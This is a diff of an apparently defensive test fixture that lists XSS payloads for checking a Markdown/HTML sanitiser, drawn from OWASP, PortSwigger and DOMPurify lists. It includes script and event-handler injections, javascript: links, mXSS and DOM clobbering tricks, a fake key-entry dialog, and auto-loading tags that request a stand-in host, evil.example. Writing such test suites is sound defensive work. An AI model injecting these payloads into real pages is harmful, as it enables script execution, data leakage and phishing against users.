@@ -1,20 +1,15 @@
-/**
- * Attacks on a page that shows what others wrote, of the known families (OWASP's and PortSwigger's lists, DOMPurify's own tests, mXSS by
- * namespace confusion, DOM clobbering, what loads by itself). Where one works it calls `pwned()`, goes elsewhere, or asks `evil.example`.
- */
+/** Attacks from OWASP's, PortSwigger's and DOMPurify's lists. A successful one calls `pwned()`, navigates or requests `evil.example`. */
 const script = 'pwned()';
-/** Where a request would go. */
 export const evil = 'evil.example';
 const url = (name: string) => `http://${name}.${evil}/x`;
 
-/** As Markdown, by what each tries. */
 export const attacks: Readonly<Record<string, string>> = {
   // Scripts.
   script: `<script>${script}</script>`,
   'script from elsewhere': `<script src="${url('script')}"></script>`,
   'script as a module': `<script type="module">import '${url('module')}'</script>`,
   'script in capitals with a slash': `<SCRIPT/x>${script}</SCRIPT>`,
-  'script torn in two': `<scr<script>ipt>${script}</scr</script>ipt>`,
+  'script split in two': `<scr<script>ipt>${script}</scr</script>ipt>`,
   'script that is not closed': `<script>${script}`,
   'script after a null': `<scr\u0000ipt>${script}</script>`,
   'script in a comment that is not closed': `<!-- --!><script>${script}</script>`,
@@ -36,7 +31,7 @@ export const attacks: Readonly<Record<string, string>> = {
   'handler of an audio': `<audio src=x onerror=${script}></audio>`,
   'handler of the body': `<body onload=${script}>`,
   'handler that waits for a popover': `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${script}>x</div>`,
-  'handler that waits for what is visible': `<b oncontentvisibilityautostatechange=${script} style="display:block;content-visibility:auto">x</b>`,
+  'handler that waits for visibility': `<b oncontentvisibilityautostatechange=${script} style="display:block;content-visibility:auto">x</b>`,
   // Other namespaces.
   'svg that loads': `<svg onload=${script}></svg>`,
   'svg with a script': `<svg><script>${script}</script></svg>`,
@@ -58,7 +53,7 @@ export const attacks: Readonly<Record<string, string>> = {
   textarea: `<textarea><img title="</textarea><img src=x onerror=${script}>"></textarea>`,
   'title of the page': `<title><a title="</title><img src=x onerror=${script}>"></title>`,
   'template with a script': `<template><script>${script}</script></template>`,
-  'template that opens a shadow': `<div><template shadowrootmode=open><img src=x onerror=${script}></template></div>`,
+  'template with a shadow root': `<div><template shadowrootmode=open><img src=x onerror=${script}></template></div>`,
   xmp: `<xmp><p title="</xmp><img src=x onerror=${script}>"></xmp>`,
   plaintext: `<plaintext><img src=x onerror=${script}>`,
   // Addresses.
@@ -81,24 +76,24 @@ export const attacks: Readonly<Record<string, string>> = {
   'picture of a script': `![x](javascript:${script})`,
   'picture in a link': `[![x](${url('picture')})](javascript:${script})`,
   'link within the page': '<a href="?x=1#/state/default">x</a><a href="/swagger-ui">y</a><a href="//evil.example/x">z</a>',
-  // What loads by itself.
+  // Content that loads automatically.
   picture: `![x](${url('image')})`,
   'picture by HTML': `<img src="${url('img')}" srcset="${url('srcset')} 2x">`,
   'picture of a set': `<picture><source srcset="${url('source')}"><img src=x></picture>`,
   'style that loads': `<style>@import '${url('import')}'; body{background:url(${url('background')})}</style>`,
   'style of an element': `<p style="position:fixed;inset:0;background:url(${url('style')})">x</p>`,
   'style sheet': `<link rel=stylesheet href="${url('stylesheet')}">`,
-  'names looked up ahead': `<link rel=dns-prefetch href="${url('dns')}"><link rel=preconnect href="${url('preconnect')}">`,
-  'fetched ahead': `<link rel=prefetch href="${url('prefetch')}"><link rel=preload as=image href="${url('preload')}"><link rel=modulepreload href="${url('modulepreload')}">`,
+  'DNS prefetch': `<link rel=dns-prefetch href="${url('dns')}"><link rel=preconnect href="${url('preconnect')}">`,
+  prefetch: `<link rel=prefetch href="${url('prefetch')}"><link rel=preload as=image href="${url('preload')}"><link rel=modulepreload href="${url('modulepreload')}">`,
   'table with a background': `<table background="${url('table')}"><tr><td background="${url('cell')}">x</td></tr></table>`,
   'video with a picture': `<video poster="${url('poster')}" src="${url('video')}" autoplay></video>`,
   'ping of a link': `<a href="https://example.com" ping="${url('ping')}">x</a>`,
-  // What takes the page over.
+  // Takeover of the page.
   'frame with a script': `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
   'frame of a script': `<iframe src="javascript:parent.${script}"></iframe>`,
   object: `<object data="javascript:${script}"></object><embed src="${url('embed')}">`,
-  'page that is left': `<meta http-equiv=refresh content="0;url=${url('refresh')}">`,
-  'policy of another kind': `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
+  'redirect by meta': `<meta http-equiv=refresh content="0;url=${url('refresh')}">`,
+  'policy by meta': `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
   base: `<base href="${url('base')}">`,
   form: `<form action="${url('form')}"><button formaction="javascript:${script}">x</button><input name=key></form>`,
   'portal and speculation': `<portal src="${url('portal')}"></portal><script type=speculationrules>{"prefetch":[{"urls":["${url('speculation')}"]}]}</script>`,
@@ -106,7 +101,7 @@ export const attacks: Readonly<Record<string, string>> = {
   'clobbering by name': '<form name=body><input name=attributes><input name=parentNode></form><img name=getElementById>',
   'element of its own': `<x-y onclick=${script} is=x>z</x-y><slot name=x></slot>`,
   'dialog that is open': `<dialog open style="position:fixed;inset:0">Give your key: <input name=key></dialog>`,
-  // Through what Markdown makes.
+  // Through Markdown constructs.
   'language of code': `\`\`\`"><img src=x onerror=${script}>\nx\n\`\`\``,
   'code that ends early': `\`\`\`\n</code></pre><img src=x onerror=${script}>\n\`\`\``,
   'code in a line': `\`<img src=x onerror=${script}>\``,
@@ -118,5 +113,5 @@ export const attacks: Readonly<Record<string, string>> = {
   'marks of the highlight': `⸨<img src=x onerror=${script}>⸩ \u2e28<script>${script}</script>\u2e29`,
   'reversed text': `\u202e<img src=x onerror=${script}>\u202c`,
   'wide signs': `\uff1cscript\uff1e${script}\uff1c/script\uff1e`,
-  'a character that is none': `\ufffd<img src=x onerror=${script}>`,
+  'replacement character': `\ufffd<img src=x onerror=${script}>`,
 };
